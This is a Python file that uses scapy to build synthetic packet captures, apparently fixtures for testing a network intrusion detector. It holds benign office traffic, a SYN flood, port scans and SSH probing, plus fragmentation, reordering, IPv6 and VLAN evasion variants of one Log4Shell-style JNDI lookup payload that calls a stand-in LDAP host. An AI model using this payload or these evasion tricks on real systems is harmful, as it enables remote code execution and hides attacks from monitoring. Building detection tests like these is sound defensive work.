"""Captures about packets rather than payloads: benign traffic, floods and scans, fragments, reordering, VLAN tags."""

from __future__ import annotations

import json
import random
from collections.abc import Iterable

from scapy.layers.inet import ICMP, IP, TCP, fragment
from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment
from scapy.packet import Raw

from captures.http import FORBIDDEN, NOT_FOUND, Exchange, get, post, request, response, visit
from captures.wire import ATTACKER, BENIGN, MSS, SERVER, Capture, TcpConversation, datagram, link, network

SYN_COUNT = 2000
FLOOD_STEP_NS = 500_000
LOOKUP = "${jndi:ldap://192.0.2.66:1389/a}"
ATTACK = request("/search?q=tea", agent=LOOKUP)


def benign() -> Capture:
    """An hour of a small office in a second: pages, an API, uploads, DNS, SSH, TLS, mail, a large download."""
    capture = Capture()
    resolver = "203.0.113.53"
    for number, name in enumerate((b"shop", b"mail", b"api")):
        question = number.to_bytes(2, "big") + bytes.fromhex("0100 0001 0000 0000 0000")
        asked = bytes([len(name)]) + name + b"\x07example\x03org\x00\x00\x01\x00\x01"
        datagram(capture, BENIGN, resolver, 51000 + number, 53, question + asked)
        answer = number.to_bytes(2, "big") + bytes.fromhex("8180 0001 0001 0000 0000") + asked
        record = bytes.fromhex("c00c 0001 0001 0000003c 0004 cb007150")
        datagram(capture, resolver, BENIGN, 53, 51000 + number, answer + record, back=True)

    cookies = {"Cookie": "session=5f2b7c; _ga=GA1.2.1234.5678", "Accept-Language": "en,de;q=0.5"}
    pages = [
        get("/", response(), headers=cookies),
        get("/search?q=union+jack+select+edition&sort=price", response(), headers=cookies),
        get("/search?q=it's+tea+or+coffee%3F", response(), headers=cookies),
        get(
            "/docs/../images/./logo.png",
            response(b"\x89PNG\r\n\x1a\n" + bytes(300), headers={"Content-Type": "image/png"}),
        ),
        get("/item/42?ref=a%2Fb%2Fc&lang=en", response(), headers=cookies),
        get("/missing", NOT_FOUND, headers=cookies),
        post(
            "/login", b"user=ann&password=tea%26cups%21&next=%2Faccount", response(b"", 302, {"Location": "/account"})
        ),
        post(
            "/comment", b"text=I+had+to+cat+%2Fvar%2Flog+and+then+id+my+card.+Select+all+from+the+menu%21", response()
        ),
    ]
    visit(capture, pages, BENIGN, 51100)

    kind = {"Content-Type": "application/json"}
    items = [
        {"id": i, "name": f"Cup {i}", "price": i * 1.5, "tags": ["tea", "cup"], "class": {"name": "x"}}
        for i in range(40)
    ]
    calls = [
        get("/api/v1/items?limit=40", response(json.dumps(items).encode(), headers=kind), headers=kind),
        post(
            "/api/v1/items",
            b'{"name": "O\'Neil & Sons {{cup}}", "method": "login", "sql": false}',
            response(b"{}", headers=kind),
            headers=kind,
        ),
        Exchange(
            request("/api/v1/items/7", "PUT", kind, b'{"note": "${price} is $(5), see C:\\\\tea"}'),
            response(b"{}", headers=kind),
        ),
        Exchange(request("/api/v1/items/7", "DELETE"), response(b"", 204)),
    ]
    visit(capture, calls, "198.51.100.21", 51200)
    visit(capture, [get("/", response()) for _ in range(3)], "2001:db8:1::20", 51201, server="2001:db8:2::80")

    archive = random.Random(11).randbytes(60_000)
    kind = {"Content-Type": "application/zip"}
    visit(capture, [get("/files/catalogue.zip", response(archive, headers=kind))], "198.51.100.22", 51300)

    login = TcpConversation(capture, BENIGN, SERVER, 51400, 22).open()
    login.server(b"SSH-2.0-OpenSSH_9.6\r\n")
    login.client(b"SSH-2.0-OpenSSH_9.7\r\n")
    for number in range(12):
        login.client(random.Random(100 + number).randbytes(64 + 16 * number))
        login.server(random.Random(200 + number).randbytes(128 + 32 * number))
    login.close()

    tls = TcpConversation(capture, BENIGN, SERVER, 51500, 443).open()
    hello = b"\x03\x03" + random.Random(12).randbytes(32) + b"\x00\x00\x02\xc0\x2f\x01\x00"
    tls.client(b"\x16\x03\x01" + (len(hello) + 4).to_bytes(2, "big") + b"\x01" + len(hello).to_bytes(3, "big") + hello)
    tls.server(b"\x17\x03\x03\x05\x00" + random.Random(13).randbytes(1280))
    tls.close()

    mail = TcpConversation(capture, BENIGN, SERVER, 51600, 25).open()
    mail.server(b"220 mail.example.org ESMTP\r\n")
    for line, reply in (
        (b"EHLO client.example.org\r\n", b"250 mail.example.org\r\n"),
        (b"MAIL FROM:<ann@example.org>\r\n", b"250 OK\r\n"),
        (b"RCPT TO:<bob@example.org>\r\n", b"250 OK\r\n"),
        (b"DATA\r\n", b"354 go on\r\n"),
        (b"Subject: tea\r\n\r\nPlease run `id` and read /etc/passwd on Monday.\r\n.\r\n", b"250 queued\r\n"),
        (b"QUIT\r\n", b"221 bye\r\n"),
    ):
        mail.client(line)
        mail.server(reply)
    mail.close()

    refused = TcpConversation(capture, BENIGN, SERVER, 51700, 8080)
    capture.add(refused.frame(0, "S"))
    refused.next_seq[0] += 1
    refused.reset()
    return capture


def syn_flood() -> Capture:
    """Two thousand SYN of one source in a second, and a benign client that connects meanwhile."""
    capture = Capture()
    start = capture.now_ns
    for number in range(SYN_COUNT):
        packet = network(ATTACKER, SERVER, number) / TCP(
            sport=1024 + number, dport=80, flags="S", seq=number * 7919, window=1024
        )
        capture.now_ns = start + number * FLOOD_STEP_NS
        capture.add(link(ATTACKER, True) / packet)
    capture.now_ns = start + SYN_COUNT * FLOOD_STEP_NS // 2 + 1000
    visit(capture, [get("/", response())], BENIGN, 50000)
    return capture


def fragments() -> Capture:
    """An exploit whose TCP segment comes in IP fragments (IPv4 in and out of order, IPv6), after a harmless one."""
    capture = Capture()
    harmless = request("/search?q=tea", headers={"X-Padding": "p" * 600})
    for number, (data, order) in enumerate(((harmless, (0, 1, 2)), (ATTACK, (0, 1, 2)), (ATTACK, (2, 0, 1)))):
        conversation = TcpConversation(capture, ATTACKER if number else BENIGN, SERVER, 44000 + number).open()
        whole = conversation.frame(0, "PA", data)
        whole[IP].flags = 0
        size = (len(data) + 20 + 2) // 3 // 8 * 8 + 8
        pieces = fragment(IP(bytes(whole[IP])), fragsize=size)
        for position in order:
            capture.add(link(ATTACKER, True) / pieces[position])
        conversation.advance(0, len(data))
        conversation.server(FORBIDDEN)
        conversation.close()
        capture.wait(0.05)

    conversation = TcpConversation(capture, "2001:db8:1::66", "2001:db8:2::80", 44010).open()
    segment = bytes(conversation.frame(0, "PA", ATTACK)[TCP])
    for start in range(0, len(segment), 96):
        piece = segment[start : start + 96]
        header = IPv6ExtHdrFragment(nh=6, offset=start // 8, m=int(start + 96 < len(segment)), id=77)
        address = IPv6(src="2001:db8:1::66", dst="2001:db8:2::80", hlim=64)
        capture.add(link("2001:db8:1::66", True) / address / header / Raw(piece))
    conversation.advance(0, len(ATTACK))
    conversation.server(FORBIDDEN)
    conversation.close()
    return capture


def out_of_order() -> Capture:
    """The same exploit five times: swapped segments, doubled ones, overlapping ones, single bytes, a late beginning."""
    capture = Capture()
    third = len(ATTACK) // 3
    first, second, last = ATTACK[:third], ATTACK[third : 2 * third], ATTACK[2 * third :]
    plans: list[list[tuple[int, bytes]]] = [
        [(0, first), (2 * third, last), (third, second)],
        [(0, first), (0, first), (third, second), (third, second), (2 * third, last), (2 * third, last)],
        [(0, ATTACK[: third + 20]), (third - 20, ATTACK[third - 20 : 2 * third + 30]), (2 * third, last)],
        [(at, ATTACK[at : at + 1]) for at in range(len(ATTACK))],
        [(2 * third, last), (third, second), (0, first)],
    ]
    visit(capture, [get("/", response())], BENIGN, 50000)
    for number, plan in enumerate(plans):
        conversation = TcpConversation(capture, ATTACKER, SERVER, 45000 + number).open()
        for at, piece in plan:
            conversation.segment(0, at, piece)
        conversation.advance(0, len(ATTACK))
        conversation.server(FORBIDDEN)
        conversation.close()
        capture.wait(0.05)
    return capture


def ipv6() -> Capture:
    """The exploit over IPv6, and a benign client."""
    capture = Capture()
    server = "2001:db8:2::80"
    visit(capture, [get("/", response())], "2001:db8:1::20", 50000, server=server)
    visit(capture, [Exchange(ATTACK, FORBIDDEN)], "2001:db8:1::66", 46000, server=server)
    visit(capture, [get("/large", response(b"tea " * MSS))], "2001:db8:1::20", 50001, server=server)
    return capture


def vlan() -> Capture:
    """The exploit under one VLAN tag and under two; the same addresses and ports on another VLAN are another flow."""
    capture = Capture()
    visit(capture, [get("/", response())], BENIGN, 50000, vlan=[10])
    visit(capture, [Exchange(ATTACK, FORBIDDEN)], ATTACKER, 47000, vlan=[10])
    visit(capture, [get("/", response())], ATTACKER, 47000, vlan=[20])
    visit(capture, [Exchange(ATTACK, FORBIDDEN)], ATTACKER, 47001, vlan=[100, 10])
    return capture


def scanning() -> Capture:
    """Scans of ports and hosts, fast and slow, odd flags, passwords tried over SSH; and a client that scans nothing."""
    capture = Capture()
    _probes(capture, "192.0.2.71", range(1, 101), [SERVER], "S", 0.01)
    _probes(capture, "192.0.2.72", range(1000, 1110), [SERVER], "S", 20.0)
    hosts = [f"203.0.113.{number}" for number in range(100, 140)]
    _probes(capture, "192.0.2.73", [445], hosts, "S", 0.1)
    for number, host in enumerate(hosts):
        capture.add(link(BENIGN, True) / network("192.0.2.74", host, number) / ICMP(type=8, id=7, seq=number))
    for source, flags in (("192.0.2.75", ""), ("192.0.2.76", "F"), ("192.0.2.77", "FPU")):
        _probes(capture, source, range(20, 30), [SERVER], flags, 0.01)
    for number in range(20):
        _banners(capture, "192.0.2.78", 46000 + number, b"SSH-2.0-libssh_0.9.6\r\n")
        capture.wait(0.5)
    _banners(capture, BENIGN, 47000, b"SSH-2.0-OpenSSH_9.6\r\n")
    _probes(capture, BENIGN, [22, 80, 443, 3000, 5000, 8000], [SERVER], "S", 0.1)
    return capture


def _probes(
    capture: Capture, source: str, ports: Iterable[int], hosts: Iterable[str], flags: str, every_s: float
) -> None:
    """Add a packet to each port of each host, and the refusal of each SYN."""
    for port in ports:
        for host in hosts:
            probe = TCP(sport=45000, dport=port, flags=flags, seq=7, window=1024)
            capture.add(link(source, True) / network(source, host, port) / probe)
            if flags == "S":
                refusal = TCP(sport=port, dport=45000, flags="RA", ack=8, window=0)
                capture.add(link(source, False) / network(host, source, port) / refusal)
            capture.wait(every_s)


def _banners(capture: Capture, client: str, sport: int, banner: bytes) -> None:
    conversation = TcpConversation(capture, client, SERVER, sport, 22).open()
    conversation.server(b"SSH-2.0-OpenSSH_9.6\r\n")
    conversation.client(banner)
    conversation.close()
